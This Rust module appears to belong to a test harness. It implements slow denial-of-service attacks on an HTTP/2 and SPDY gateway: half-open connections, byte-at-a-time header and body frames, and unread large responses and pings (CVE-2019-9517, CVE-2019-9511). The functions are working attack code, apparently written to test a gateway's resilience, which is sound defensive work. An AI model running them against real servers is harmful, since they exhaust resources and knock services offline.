//! Attacks on a gateway that hold things open instead of flooding: half-open sessions, slow heads
//! and bodies, readers that do not read.

use std::collections::VecDeque;
use std::io;
use std::net::{SocketAddr, TcpStream};
use std::thread;
use std::time::{Duration, Instant};

use super::victim::{FEW, VictimGateway};
use super::wire::{
    SpdyBlocks, Wire, WireProtocol, control, frame, h2, has_ended, pair, request_block, spdy,
};

/// The number of sessions of one attacker.
const SESSIONS: usize = 40;
/// The number of streams in each session.
const STREAMS: u32 = 100;

/// An attack on a gateway: `origin` is an honest one. Returns the number of frames or connections.
pub type SlowAttack = fn(VictimGateway, SocketAddr, Instant) -> io::Result<u64>;

/// The beginnings of the connections of half-open attacks.
const BEGINNINGS: [&[u8]; 3] = [b"", b"PRI * HTTP/2.0\r\n", &[0x80, 3, 0, 1]];

/// Holds 200 connections that have sent half a preface.
pub fn half_open(gateway: VictimGateway, _: SocketAddr, until: Instant) -> io::Result<u64> {
    let mut held = Vec::new();
    while Instant::now() < until && held.len() < 200 {
        held.push(begin(gateway, held.len())?);
    }
    wait(until);
    Ok(held.len() as u64)
}

/// Holds as many half-open connections as the gateway permits in total, and keeps replacing the
/// oldest. A new session has a quarter of a second before later connections could displace it.
pub fn half_open_full(gateway: VictimGateway, _: SocketAddr, until: Instant) -> io::Result<u64> {
    let mut held = VecDeque::new();
    let mut begun = 0;
    while Instant::now() < until {
        held.push_back(begin(gateway, begun)?);
        begun += 1;
        if held.len() > FEW {
            held.pop_front();
        }
        thread::sleep(Duration::from_millis(20));
    }
    Ok(begun as u64)
}

fn begin(gateway: VictimGateway, number: usize) -> io::Result<TcpStream> {
    let kind = number % BEGINNINGS.len();
    let address = if kind == 2 { gateway.spdy } else { gateway.h2 };
    let mut stream = TcpStream::connect(address)?;
    match io::Write::write_all(&mut stream, BEGINNINGS[kind]) {
        // The gateway may close it at once.
        Err(error) if !has_ended(&error) => Err(error),
        _ => Ok(stream),
    }
}

/// Sends a header block a byte at a time, in CONTINUATION frames.
pub fn slow_head(gateway: VictimGateway, origin: SocketAddr, until: Instant) -> io::Result<u64> {
    let block = request_block(
        "GET",
        &origin.to_string(),
        &format!("/{}", "x".repeat(2000)),
    );
    let mut wires = sessions(gateway)?;
    for wire in &mut wires {
        wire.send(&frame(h2::HEADERS, h2::END_STREAM, 1, &block[..1]))?;
    }
    let mut sent = 0;
    for byte in &block[1..] {
        if Instant::now() >= until {
            break;
        }
        for wire in &mut wires {
            match wire.send(&frame(h2::CONTINUATION, 0, 1, &[*byte])) {
                Err(error) if !has_ended(&error) => return Err(error),
                _ => sent += 1,
            }
        }
        thread::sleep(Duration::from_millis(20));
    }
    Ok(sent)
}

/// Sends bodies a byte at a time, on many streams at once.
pub fn slow_body(gateway: VictimGateway, origin: SocketAddr, until: Instant) -> io::Result<u64> {
    let block = request_block("POST", &origin.to_string(), "/");
    let mut wires: Vec<Wire> = sessions(gateway)?.into_iter().take(10).collect();
    let ids = || (0..STREAMS).map(|stream| stream * 2 + 1);
    for wire in &mut wires {
        for id in ids() {
            wire.send(&frame(h2::HEADERS, h2::END_HEADERS, id, &block))?;
        }
    }
    let mut sent = 0;
    while Instant::now() < until {
        for wire in &mut wires {
            for id in ids() {
                match wire.send(&frame(h2::DATA, 0, id, b"x")) {
                    Err(error) if !has_ended(&error) => return Err(error),
                    _ => sent += 1,
                }
            }
        }
        thread::sleep(Duration::from_millis(50));
    }
    Ok(sent)
}

/// Opens all windows, asks for large answers and reads none of them (CVE-2019-9517).
pub fn unread_answers(
    gateway: VictimGateway,
    origin: SocketAddr,
    until: Instant,
) -> io::Result<u64> {
    let block = request_block("GET", &origin.to_string(), "/large");
    let mut held = Vec::new();
    for mut wire in sessions(gateway)?.into_iter().take(10) {
        wire.send(&frame(h2::SETTINGS, 0, 0, &[0, 4, 0x7f, 0xff, 0xff, 0xff]))?;
        wire.send(&frame(h2::WINDOW_UPDATE, 0, 0, &[0x7f, 0xff, 0, 0]))?;
        for id in (0..STREAMS).map(|stream| stream * 2 + 1) {
            wire.send(&frame(
                h2::HEADERS,
                h2::END_HEADERS | h2::END_STREAM,
                id,
                &block,
            ))?;
        }
        held.push(wire);
    }
    wait(until);
    Ok(held.len() as u64 * u64::from(STREAMS))
}

/// Asks for large answers with windows of no bytes (CVE-2019-9511).
pub fn shut_windows(gateway: VictimGateway, origin: SocketAddr, until: Instant) -> io::Result<u64> {
    let block = request_block("GET", &origin.to_string(), "/large");
    let mut wires: Vec<Wire> = sessions(gateway)?.into_iter().take(10).collect();
    for wire in &mut wires {
        wire.send(&frame(h2::SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]))?;
        for id in (0..STREAMS).map(|stream| stream * 2 + 1) {
            wire.send(&frame(
                h2::HEADERS,
                h2::END_HEADERS | h2::END_STREAM,
                id,
                &block,
            ))?;
        }
    }
    let mut sent = u64::from(STREAMS) * wires.len() as u64;
    while Instant::now() < until {
        for wire in &mut wires {
            match wire.send(&frame(h2::WINDOW_UPDATE, 0, 1, &[0, 0, 0, 1])) {
                Err(error) if !has_ended(&error) => return Err(error),
                _ => sent += 1,
            }
        }
        thread::sleep(Duration::from_millis(10));
    }
    Ok(sent)
}

/// The same as [`unread_answers`] over SPDY.
pub fn spdy_unread_answers(
    gateway: VictimGateway,
    origin: SocketAddr,
    until: Instant,
) -> io::Result<u64> {
    let mut held = Vec::new();
    for _ in 0..10 {
        let mut wire = Wire::connect(gateway.spdy, WireProtocol::Spdy)?;
        let mut blocks = SpdyBlocks::default();
        let window = [&1u32.to_be_bytes()[..], &pair(7, 0x7fff_ffff)].concat();
        wire.send(&control(spdy::SETTINGS, 0, &window))?;
        wire.send(&control(spdy::WINDOW_UPDATE, 0, &pair(0, 0x7ffe_0000)))?;
        for id in (0..STREAMS).map(|stream| stream * 2 + 1) {
            wire.send(&blocks.request(id, true, "GET", &origin.to_string(), "/large"))?;
        }
        held.push(wire);
    }
    wait(until);
    Ok(held.len() as u64 * u64::from(STREAMS))
}

/// Pings and reads no answers.
pub fn unread_pings(gateway: VictimGateway, _: SocketAddr, until: Instant) -> io::Result<u64> {
    let pings = frame(h2::PING, 0, 0, &[7; 8]).repeat(100);
    let mut sent = 0;
    for mut wire in sessions(gateway)? {
        wire.stream
            .set_write_timeout(Some(Duration::from_millis(200)))?;
        for _ in 0..100 {
            if Instant::now() >= until || wire.send(&pings).is_err() {
                break;
            }
            sent += 100;
        }
    }
    wait(until);
    Ok(sent)
}

fn sessions(gateway: VictimGateway) -> io::Result<Vec<Wire>> {
    (0..SESSIONS)
        .map(|_| Wire::connect(gateway.h2, WireProtocol::H2))
        .collect()
}

fn wait(until: Instant) {
    thread::sleep(until.saturating_duration_since(Instant::now()));
}
